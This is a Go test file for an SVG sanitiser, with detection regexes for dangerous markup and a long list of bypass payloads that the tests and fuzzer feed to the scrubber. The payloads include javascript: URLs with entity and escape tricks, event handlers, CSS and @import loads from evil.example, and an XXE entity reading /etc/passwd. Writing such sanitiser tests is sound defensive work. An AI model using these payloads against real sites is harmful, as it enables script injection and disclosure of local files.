package svgout_test

import (
	"encoding/xml"
	"errors"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/webodar/webodar/internal/svgout"
)

func scrub(t testing.TB, svg string) (string, []string) {
	t.Helper()
	clean, removed, err := svgout.Scrub([]byte(svg))
	if err != nil {
		t.Fatal(err)
	}
	return string(clean), removed
}

var harmful = regexp.MustCompile(`(?i)<(?:script|foreignobject|iframe|image|img|animate|set|object|embed|handler|metadata|link|meta|base)\b|<!|<\?`)

// What loads or runs from an attribute or a style sheet; in a label it is text.
var (
	harmfulName  = regexp.MustCompile(`(?i)^(?:on|src$)`)
	harmfulValue = regexp.MustCompile(`(?i)javascript:|vbscript:|@import|@font-face|expression\(|-moz-binding|url\((?:[^#]|$)|image-set\(`)
)

// check fails the test where output is not what Scrub promises.
func check(t testing.TB, svg string) {
	t.Helper()
	if !strings.HasPrefix(svg, "<svg ") || !strings.HasSuffix(svg, "</svg>") {
		t.Errorf("not an svg element: %q", svg)
	}
	if m := harmful.FindString(svg); m != "" {
		t.Errorf("%q in %q", m, svg)
	}
	dec := xml.NewDecoder(strings.NewReader(svg))
	root := ""
	style := false
	for {
		tok, err := dec.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("%v in %q", err, svg)
		}
		start, ok := tok.(xml.StartElement)
		if text, ok := tok.(xml.CharData); ok && style && harmfulValue.Match(text) {
			t.Errorf("style sheet %q", text)
		}
		style = start.Name.Local == "style"
		if !ok {
			continue
		}
		for _, a := range start.Attr {
			if harmfulName.MatchString(a.Name.Local) || a.Name.Local != "id" && harmfulValue.MatchString(a.Value) {
				t.Errorf("<%s %s=%q>", start.Name.Local, a.Name.Local, a.Value)
			}
			switch {
			case a.Name.Local == "id" && root == "":
				root = a.Value
			case a.Name.Local == "id" && !strings.HasPrefix(a.Value, root):
				t.Errorf("id %q does not begin with %q", a.Value, root)
			case a.Name.Local == "href" && !strings.HasPrefix(a.Value, "#"):
				scheme, _, _ := strings.Cut(strings.ToLower(a.Value), ":")
				if start.Name.Local != "a" || scheme != "http" && scheme != "https" && scheme != "mailto" {
					t.Errorf("<%s href=%q>", start.Name.Local, a.Value)
				}
			}
		}
	}
}

// payloads are tried in the ways that get past sanitisers: names in other cases,
// entities, comments, escapes, other namespaces, broken markup.
var payloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT xlink:href="http://evil.example/x.js"/>`,
	`<svg:script>alert(1)</svg:script>`,
	`<script><!--</script><g onload="alert(1)"/>--></script>`,
	`<g onload="alert(1)" ONCLICK=alert(1) on:x="1"/>`,
	`<g/onmouseover=alert(1)>`,
	"<g on\nload=alert(1)>",
	`<a href="javascript:alert(1)"><text>x</text></a>`,
	`<a xlink:href="java&#10;script:alert(1)"><text>x</text></a>`,
	`<a href="&#x6a;avascript&colon;alert(1)"><text>x</text></a>`,
	`<a href="data:text/html,<script>alert(1)</script>"><text>x</text></a>`,
	`<a href=" vbscript:x"/>`,
	`<a href="//evil.example"/>`,
	`<image href="http://evil.example/x.png"/>`,
	`<image xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>`,
	`<use href="http://evil.example/x.svg#a"/>`,
	`<use href="data:image/svg+xml,<svg id='x'/>#x"/>`,
	`<feImage href="http://evil.example/x.png"/>`,
	`<foreignObject><body onload="alert(1)"><iframe src="javascript:alert(1)"></iframe></body></foreignObject>`,
	`<FOREIGNOBJECT><p>x</p></FOREIGNOBJECT>`,
	`<animate attributeName="href" to="javascript:alert(1)"/>`,
	`<set attributeName="onload" to="alert(1)"/>`,
	`<rect fill="url(http://evil.example/#a)"/>`,
	`<rect fill="url( 'http://evil.example' )"/>`,
	`<rect fill="URL(//evil.example)"/>`,
	`<rect fill="u\72l(http://evil.example)"/>`,
	"<rect style=\"fill:u\x00rl(http://evil.example)\" fill=\"u&#1;rl(http://evil.example)\"/>",
	"<a href=\"java\x01script:alert(1)\"/><style>#m x{a:u\x02rl(x)}@im\x03port 'x';</style>",
	`<rect style="fill: url(&quot;http://evil.example&quot;)"/>`,
	`<rect style="fill:u/**/rl(x);behavior:url(x);-moz-binding:url(x)"/>`,
	`<rect style="width: expression(alert(1))"/>`,
	`<rect style="background: image-set('http://evil.example' 1x)"/>`,
	`<rect style='font-family: "x'/><rect style='}body{color:red'/>`,
	`<rect filter="url(#a) url(http://evil.example)"/>`,
	`<rect xml:base="http://evil.example/" src="x" formaction="x"/>`,
	`<style>@import url(http://evil.example/a.css);</style>`,
	`<style>@import 'http://evil.example/a.css'</style>`,
	`<style>@font-face{font-family:x;src:url(http://evil.example)}</style>`,
	`<style>body{display:none}</style>`,
	`<style>#m ~ p{color:red} #m + p{color:red} #m:hover ~ *{color:red}</style>`,
	`<style>#mother{color:red}</style>`,
	`<style>#m{color:red; & ~ p{color:blue}} </style>`,
	`<style>#m x{background:url(http://evil.example)}</style>`,
	`<style>#m x{background:url("//evil.example")}</style>`,
	`<style>#m x{--a:url(http://evil.example)}</style>`,
	`<style>#m x{content:"a</style><script>alert(1)</script>"}</style>`,
	`<style><![CDATA[</style><script>alert(1)</script>]]></style>`,
	`<style>#m x{color:red}/*</style><g onload="x"/><style>*/</style>`,
	`<style>@media x{body{color:red}}</style>`,
	`<style>@namespace url(http://evil.example);@charset "x";@layer a;</style>`,
	`<style>#m{position:fixed;z-index:99;top:0}</style>`,
	`<style>#m x{color:red</style><style>}body{color:red}</style>`,
	`<style>#m, body, #m x:is(a,b) ~ c{color:red}</style>`,
	`<style>\23m x{a:b} #m\{x{a:b}</style>`,
	`<title><script>alert(1)</script></title>`,
	`<desc><img src=x onerror=alert(1)></desc>`,
	`<text>&lt;script&gt;alert(1)&lt;/script&gt; onload=x javascript:x url(x)</text>`,
	`<!--><script>alert(1)</script>-->`,
	`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><text>&x;</text>`,
	`<?xml-stylesheet href="http://evil.example/a.css"?>`,
	`<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>`,
	`</svg><script>alert(1)</script>`,
	`<g id="a&quot; onload=&quot;alert(1)"/>`,
	`<g a<b="x" ="y" "z"/>`,
	"<text>\x00\x1b\xff\xed\xa0\x80\ufffe</text>",
	`<unknown-thing onload="x"><rect/></unknown-thing>`,
	`<g`, `<g a="`, `<style>`, `<![CDATA[`, `<!--`, `</`,
}

func TestHostile(t *testing.T) {
	for _, p := range payloads {
		clean, _ := scrub(t, `<svg id="m">`+p+`<rect id="after"/></svg>`)
		check(t, clean)
		for _, rule := range styles(clean) {
			if !strings.HasPrefix(rule, "#m") && !strings.HasPrefix(rule, "@media") || regexp.MustCompile(`^#m[\w-]`).MatchString(rule) {
				t.Errorf("%q has a rule that is not confined: %q", p, rule)
			}
		}
	}
}

var styleElement = regexp.MustCompile(`<style>([^<]*)</style>`)

// styles are the selectors of a picture's rules.
func styles(svg string) []string {
	var out []string
	for _, m := range styleElement.FindAllStringSubmatch(svg, -1) {
		for rule := range strings.SplitSeq(m[1], "}") {
			if selector, _, ok := strings.Cut(rule, "{"); ok {
				out = append(out, selector)
			}
		}
	}
	return out
}

func TestScrub(t *testing.T) {
	const head = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" id="m">`
	for _, tt := range []struct{ name, in, want string }{
		{
			"ids and references", `<defs><marker id="arrow"/></defs><path id="m-p" marker-end="url(#arrow)"/><use xlink:href="#arrow"/>`,
			`<defs><marker id="m-arrow"></marker></defs><path id="m-p" marker-end="url(#m-arrow)"></path><use xlink:href="#m-arrow"></use>`,
		},
		{"ids that need escapes", `<g id="a b)"/><rect fill="url('#a')"/>`, `<g id="m-a_20_b_29_"></g><rect fill="url(#m-a)"></rect>`},
		{"names in HTML's case", `<lineargradient gradientUnits="x"/>`, `<linearGradient gradientUnits="x"></linearGradient>`},
		{"HTML in text", `<text>a<br>b<b>c</b>&nbsp;&amp;</text>`, "<text>abc\u00a0&amp;</text>"},
		{"open bracket", `<style>#m a{color:red[;x:y}#m b{c:d}</style>`, ``},
		{"link", `<a href="https://example.org/?a=1&amp;b=2" target="_top"><text>x</text></a>`, `<a href="https://example.org/?a=1&amp;b=2" target="_blank"><text>x</text></a>`},
		{
			"style sheet", `<g id="x"/><style>#m .a > b, c{fill:url(#x);color:#333;}#m #x{a:b}@media print{d{e:f}}</style>`,
			`<g id="m-x"></g><style>#m .a &gt; b,#m c{fill:url(#m-x);color:#333;}#m #m-x{a:b;}@media print{#m d{e:f;}}</style>`,
		},
		{
			"animation", `<style>@keyframes dash{to{stroke-dashoffset:0;}}#m .e{animation:dash 20s linear;}</style>`,
			`<style>@keyframes m-dash{to{stroke-dashoffset:0;}}#m .e{animation:m-dash 20s linear;}</style>`,
		},
		{"labels", `<g aria-labelledby="t d"/>`, `<g aria-labelledby="m-t m-d"></g>`},
		{"duplicate attributes", `<g class="a" class="b"/>`, `<g class="a"></g>`},
		{"fonts", `<text style="font-family: &quot;trebuchet ms&quot;, serif; fill: red"/>`, `<text style="font-family:&quot;trebuchet ms&quot;, serif;fill:red;"></text>`},
		{"what is no number", `<text x="1" y="NaN" class="NaN">NaN</text>`, `<text x="1" class="NaN">NaN</text>`},
		{"names that CSS and XML see alike", `<rect FILL="red"/>`, `<rect FILL="red"></rect>`},
		{"outside the root", `</svg><p>x</p>`, ``},
	} {
		got, _ := scrub(t, `<p>x</p><svg id="m">`+tt.in+`</svg>`)
		if diff := cmp.Diff(head+tt.want+`</svg>`, got); diff != "" {
			t.Errorf("%s: -want +got:\n%s", tt.name, diff)
		}
	}
	if got, _ := scrub(t, `<svg id="m"/><rect/>`); got != head+`</svg>` {
		t.Errorf("behind an empty root: %s", got)
	}
	if _, _, err := svgout.Scrub([]byte("<p>no picture</p>")); !errors.Is(err, svgout.ErrNoSVG) {
		t.Errorf("got %v", err)
	}
}

// Scrubbing what was scrubbed changes nothing.
func TestIdempotent(t *testing.T) {
	for _, p := range payloads {
		once, _ := scrub(t, `<svg id="m"><g id="x"/><style>#m a>b{c:d}@keyframes k{to{e:f}}#m g{animation:k}</style>`+p+`</svg>`)
		twice, removed := scrub(t, once)
		if once != twice || len(removed) > 0 {
			t.Errorf("%q: removed %q\n%s\n%s", p, removed, once, twice)
		}
	}
}

func TestRemovedIsTold(t *testing.T) {
	_, removed := scrub(t, `<svg id="m"><script/><script/><g onload="x"/><style>@import "x";</style><image href="x"/></svg>`)
	want := []string{"<script>", "attribute onload", "a style sheet's @import", "<image>"}
	if diff := cmp.Diff(want, removed); diff != "" {
		t.Error(diff)
	}
}

func FuzzScrub(f *testing.F) {
	for _, p := range payloads {
		f.Add(`<svg id="m">` + p + `</svg>`)
	}
	f.Fuzz(func(t *testing.T, svg string) {
		clean, _, err := svgout.Scrub([]byte(svg))
		if err != nil {
			return
		}
		check(t, string(clean))
		again, _, err := svgout.Scrub(clean)
		if err != nil || string(again) != string(clean) {
			t.Errorf("scrubbing again (%v) gives %q from %q", err, again, clean)
		}
	})
}
